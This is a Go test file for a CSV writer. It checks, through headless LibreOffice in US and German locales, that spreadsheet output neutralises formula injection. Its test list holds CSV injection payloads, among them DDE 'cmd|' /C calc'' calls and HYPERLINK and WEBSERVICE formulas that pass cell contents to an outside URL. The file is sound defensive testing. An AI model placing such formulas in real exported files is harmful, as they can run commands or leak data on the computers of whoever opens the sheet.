package csv

import (
	"bytes"
	stdcsv "encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// formulas are texts that spreadsheets have run, or asked to run, when they
// opened a table (OWASP, CSV Injection).
var formulas = []string{
	"=1+1", "=SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", `=HYPERLINK("http://example.org?x="&A1,"Open")`,
	"\t=1+1", "\t\r=1+1", "=DDE(\"soffice\";\"x\";\"y\")", "=WEBSERVICE(\"http://example.org\")", `";=1+1;"`, "'=1+1", "=1+1\n=2+2",
}

// What is written for a spreadsheet, LibreOffice opens with the same cells, and
// runs none of them, though it is told to evaluate formulas. A text that is
// wholly a number is one to it, so there is none here.
func TestLibreOfficeOpensTheSameCells(t *testing.T) {
	if _, err := exec.LookPath("soffice"); err != nil {
		t.Log("not run: this computer has no LibreOffice")
		return
	}
	for language, o := range map[string]struct{ locale, separator, number string }{
		"1033": {"en_US.UTF-8", "44", "-1234.5"}, "1031": {"de_DE.UTF-8", "59", "-1234,5"},
	} {
		format := Spreadsheet.Format(o.locale)
		var out bytes.Buffer
		table := newRows(&out, format, "test", []cell{{"text", true}, {"number", true}, {"words", true}})
		for i, formula := range formulas {
			words := strings.ToValidUTF8(strings.Map(printable, anything.Example(i)), "")
			if len(words) > 30_000 {
				words = words[:30_000] // a spreadsheet's cell holds no more than 32,767
			}
			formula = strings.ReplaceAll(formula, "\r", "\n") // as it ends a line within a cell
			if err := table.row(text(formula), cell{"-1234.5", true}, text("x"+words)); err != nil {
				t.Fatal(err)
			}
		}
		if err := table.end(); err != nil {
			t.Fatal(err)
		}
		want := rowsOf(t, out.Bytes(), rune(format.Separator))
		got := rowsOf(t, throughOffice(t, out.Bytes(), o.separator, language), ',')
		for i := range want[1:] {
			if number, err := strconv.ParseFloat(got[1+i][1], 64); want[1+i][1] != o.number || err != nil || number != -1234.5 {
				t.Errorf("%s: the number %s is %s", o.locale, want[1+i][1], got[1+i][1])
			}
			want[1+i][1], got[1+i][1] = "", ""
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: %s", o.locale, diff)
		}
	}
	if got := rowsOf(t, throughOffice(t, []byte("text\r\n=1+1\r\n"), "44", "1033"), ','); got[1][0] != "2" {
		t.Errorf("a text without a guard is %q: it is not run, so that this test shows nothing", got[1][0])
	}
}

// printable keeps what XML, in which LibreOffice thinks, has.
func printable(r rune) rune {
	if r < ' ' && r != '\n' || r >= 0x7f && r < 0xa0 || r&0xfffe == 0xfffe {
		return -1
	}
	return r
}

// throughOffice opens a table and saves its cells again: texts in quotes, numbers
// as they are, and of a formula what came of it. The figures are those of
// LibreOffice's help, "CSV filter parameters".
func throughOffice(t *testing.T, table []byte, separator, language string) []byte {
	t.Helper()
	folder := t.TempDir()
	file, out := filepath.Join(folder, "table.csv"), filepath.Join(folder, "out")
	if err := WriteFile(t.Context(), file, says(string(table))); err != nil {
		t.Fatal(err)
	}
	const utf8 = "76"
	in := "CSV:" + strings.Join([]string{separator, "34", utf8, "1", "", language, "false", "false", "false", "false", "false", "0", "true", "true"}, ",")
	cmd := exec.CommandContext(t.Context(), "soffice", "-env:UserInstallation=file://"+filepath.ToSlash(filepath.Join(folder, "profile")),
		"--headless", "--infilter="+in, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,false,false", "--outdir", out, file)
	if said, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	saved, err := os.ReadFile(filepath.Join(out, "table.csv"))
	if err != nil {
		t.Fatal(err)
	}
	return saved
}

func rowsOf(t *testing.T, table []byte, separator rune) [][]string {
	t.Helper()
	r := stdcsv.NewReader(bytes.NewReader(bytes.TrimPrefix(table, []byte("\ufeff"))))
	r.Comma = separator
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%v in %.300q", err, table)
	}
	return rows
}
